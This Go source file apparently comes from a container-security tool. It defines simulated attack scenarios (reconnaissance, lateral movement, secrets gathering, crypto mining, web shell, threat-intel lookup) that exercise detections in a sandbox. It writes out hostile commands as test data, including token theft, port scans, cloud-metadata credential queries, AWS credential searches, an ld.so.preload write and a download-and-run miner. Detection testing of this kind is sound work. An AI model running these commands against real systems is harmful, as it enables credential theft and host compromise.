// Package simulate plays attack scenarios against a sandboxed victim so
// operators (and the acceptance test) can see Harrier's detections fire end
// to end: behaviour in real containers, the node sensor, analytics, the
// uplink, and the backend API where the alerts are read back.
//
// Locally the victim and the attacker are runc containers, each in its own
// network namespace, joined by a veth pair. Every address the simulation
// uses (the sandbox subnet, the fake metadata service, the fake DNS server)
// exists only inside those namespaces, and nothing harmful runs: the "miner"
// prints a line and connects once to the attacker's fake pool.
//
// simulate may import api, never analytics, sensor, store or
// transport: it sees Harrier only through the backend API, as a user does.
package simulate

import (
	"fmt"
	"slices"
	"strings"

	"github.com/harrier-sec/harrier/api"
)

// Scenario is one attack story: the steps an attacker takes and the alerts each must raise.
type Scenario struct {
	// Name is what --scenario takes.
	Name string
	// Title is the table's name for it.
	Title string
	// Expected are the alerts the scenario must raise locally.
	Expected []api.DetectionID
	// Explained are alerts the same behaviour may also raise, legitimately:
	// they are reported, not counted as unexpected.
	Explained []api.DetectionID
	// ClusterOnly are expected alerts that need a Kubernetes control plane
	// (audit detections); local mode lists them as not checked.
	ClusterOnly []api.DetectionID
	// Steps are the commands injected through the victim's web shell.
	Steps func(env stepEnv) []Step
}

// Step is one request to the victim's vulnerable endpoint.
type Step struct {
	// Command is what the injection makes the victim's shell run.
	Command string
	// Raises are the detections this step is the behaviour of: their
	// latency is measured from when the request was sent.
	Raises []api.DetectionID
}

// stepEnv is what the steps need to know about the sandbox.
type stepEnv struct {
	attacker string // the attacker's address on the victim's link
	subnet   string // first three octets of the victim's /24
	curl     bool   // the victim has curl
	nmap     bool   // the victim has nmap
	miner    string // the file name the miner is served under
	// In a cluster only (empty locally):
	// scanHosts are the hosts the scan may touch (the attacker pod and
	// the victim itself, never a subnet);
	scanHosts []string
	// apiServer is the real API server's base URL as the victim's shell
	// spells it (from the pod's environment).
	apiServer string
}

const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token"

// Scenarios returns the six scenarios in the order they run.
func Scenarios() []Scenario {
	return []Scenario{
		{
			Name: "recon", Title: "reconnaissance",
			Expected:    []api.DetectionID{api.DetectionWebShell, api.DetectionNetworkScan, api.DetectionSATokenAccess},
			ClusterOnly: []api.DetectionID{api.DetectionSASuspiciousOp},
			// The fake API server on 6443 is asked with the token just
			// read: exactly the token → API sequence.
			Explained: []api.DetectionID{api.DetectionK8sAPIFromContainer},
			Steps: func(e stepEnv) []Step {
				review := `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"default"}}`
				url := "http://" + e.attacker + ":6443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
				tls := ""
				if e.apiServer != "" {
					// The real API server, with the pod's own token: an
					// audit event of its service account.
					url = e.apiServer + "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
					tls = "--no-check-certificate "
				}
				ask := "wget -q -O- " + tls + "--header \"Authorization: Bearer $(cat " + tokenPath + ")\" --header 'Content-Type: application/json' --post-data '" + review + "' " + url
				if e.curl {
					ask = "curl -s -H \"Authorization: Bearer $(cat " + tokenPath + ")\" -H 'Content-Type: application/json' -d '" + review + "' " + url
				}
				scan := fmt.Sprintf("for h in 1 2; do nc -z -w 1 %s.$h 20-1024; done; echo scanned", e.subnet)
				if e.nmap {
					scan = fmt.Sprintf("nmap -sT -Pn -n --max-retries 0 -p 20-1024 %s.1-2", e.subnet)
				}
				if len(e.scanHosts) > 0 {
					scan = fmt.Sprintf("for h in %s; do nc -z -w 1 $h 20-1024; done; echo scanned", strings.Join(e.scanHosts, " "))
				}
				return []Step{
					{Command: "id; whoami; uname -a", Raises: []api.DetectionID{api.DetectionWebShell}},
					{Command: "cat " + tokenPath, Raises: []api.DetectionID{api.DetectionSATokenAccess}},
					{Command: ask, Raises: []api.DetectionID{api.DetectionK8sAPIFromContainer, api.DetectionSASuspiciousOp}},
					{Command: scan, Raises: []api.DetectionID{api.DetectionNetworkScan}},
				}
			},
		},
		{
			Name: "lateral", Title: "lateral movement",
			Expected: []api.DetectionID{api.DetectionWebShell, api.DetectionCloudMetadata},
			Steps: func(e stepEnv) []Step {
				get := "wget -q -O- "
				if e.curl {
					get = "curl -s "
				}
				return []Step{
					{Command: "hostname; ip route 2>/dev/null || route -n", Raises: []api.DetectionID{api.DetectionWebShell}},
					{Command: get + "http://169.254.169.254/latest/meta-data/iam/security-credentials/", Raises: []api.DetectionID{api.DetectionCloudMetadata}},
				}
			},
		},
		{
			Name: "secrets", Title: "secrets gathering",
			Expected: []api.DetectionID{api.DetectionWebShell, api.DetectionSensitiveFiles, api.DetectionSecretRecon},
			Steps: func(stepEnv) []Step {
				return []Step{
					{Command: "find / -xdev -path '*/.aws/credentials' 2>/dev/null", Raises: []api.DetectionID{api.DetectionWebShell, api.DetectionSecretRecon}},
					{Command: "grep -rl AWS_SECRET_ACCESS_KEY /home /etc /www 2>/dev/null; env | grep -i -e secret -e key", Raises: []api.DetectionID{api.DetectionSecretRecon, api.DetectionSensitiveFiles}},
					{Command: "cat $HOME/.aws/credentials /home/app/.aws/credentials 2>/dev/null", Raises: []api.DetectionID{api.DetectionSensitiveFiles}},
				}
			},
		},
		{
			Name: "mining", Title: "crypto mining",
			Expected: []api.DetectionID{api.DetectionWebShell, api.DetectionCPUOptimization, api.DetectionLDPreload, api.DetectionMinerDownload, api.DetectionDriftBinary, api.DetectionMining},
			// Downloading, chmod +x and running is download-exec; modprobe
			// from a container is kernel-module.
			Explained: []api.DetectionID{api.DetectionDownloadExec, api.DetectionKernelModule},
			Steps: func(e stepEnv) []Step {
				return []Step{
					// All of these fail as the non-root web user: the
					// attempts are what must alert.
					// A path, not a bare name: busybox's shell would run its
					// modprobe applet in-process, without an exec to see.
					{Command: "/bin/modprobe msr allow_writes=on", Raises: []api.DetectionID{api.DetectionWebShell, api.DetectionCPUOptimization}},
					{Command: "echo 1280 > /proc/sys/vm/nr_hugepages", Raises: []api.DetectionID{api.DetectionCPUOptimization}},
					{Command: "echo /tmp/.x/libhide.so > /etc/ld.so.preload", Raises: []api.DetectionID{api.DetectionLDPreload}},
					{Command: fmt.Sprintf("cd /tmp && wget -q http://%s:8000/%s && chmod +x %s && ./%s --donate-level 1 -o stratum+tcp://%s:3333 -k",
						e.attacker, e.miner, e.miner, e.miner, e.attacker),
						Raises: []api.DetectionID{api.DetectionMinerDownload, api.DetectionDownloadExec, api.DetectionDriftBinary, api.DetectionMining}},
				}
			},
		},
		{
			Name: "webshell", Title: "web shell",
			Expected: []api.DetectionID{api.DetectionWebShell},
			Steps: func(stepEnv) []Step {
				return []Step{{Command: "id; ls -la /www /www/cgi-bin", Raises: []api.DetectionID{api.DetectionWebShell}}}
			},
		},
		{
			Name: "threat-intel", Title: "threat-intel domain",
			Expected: []api.DetectionID{api.DetectionIOCDomain},
			// The lookup is made through the web shell too.
			Explained: []api.DetectionID{api.DetectionWebShell},
			Steps: func(stepEnv) []Step {
				// wget resolves with the C library's resolver, which
				// sends the query with sendmmsg/sendto (busybox nslookup
				// uses write, which the sensor does not hook).
				return []Step{{Command: "wget -q -O- http://" + api.IOCTestDomain + ":8000/", Raises: []api.DetectionID{api.DetectionIOCDomain}}}
			},
		},
	}
}

// ParseScenarios turns --scenario's value ("all" or names separated by
// commas) into scenarios, in their canonical order.
func ParseScenarios(names []string) ([]Scenario, error) {
	all := Scenarios()
	var valid []string
	for _, s := range all {
		valid = append(valid, s.Name)
	}
	want := map[string]bool{}
	for _, n := range names {
		n = strings.TrimSpace(n)
		switch {
		case n == "all":
			for _, v := range valid {
				want[v] = true
			}
		case slices.Contains(valid, n):
			want[n] = true
		default:
			return nil, fmt.Errorf("unknown scenario %q (want all or some of %s)", n, strings.Join(valid, ", "))
		}
	}
	if len(want) == 0 {
		return nil, fmt.Errorf("no scenario chosen (want all or some of %s)", strings.Join(valid, ", "))
	}
	var out []Scenario
	for _, s := range all {
		if want[s.Name] {
			out = append(out, s)
		}
	}
	return out, nil
}
